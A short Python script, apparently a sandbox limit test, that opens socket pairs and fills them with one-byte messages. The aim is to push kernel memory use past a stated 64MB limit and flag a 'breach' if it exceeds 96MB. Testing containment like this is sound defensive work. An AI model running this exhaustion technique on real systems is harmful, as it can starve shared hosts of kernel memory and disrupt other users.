# Keep data in tiny messages: each costs the kernel far more than it holds.
# limits: memory=64MB timeout=10
import socket

from attack_kit import breach, held

count, pairs = 0, []
try:
    while True:
        pair = socket.socketpair()
        pairs.append(pair)
        for end in pair:
            end.setblocking(False)
            while True:
                try:
                    count += end.send(b"x")
                except BlockingIOError:
                    break
except OSError:
    pass
print(count)
# Each takes 768 bytes of kernel memory.
if count * 768 > 96 << 20:
    breach(f"{count} messages")
held()
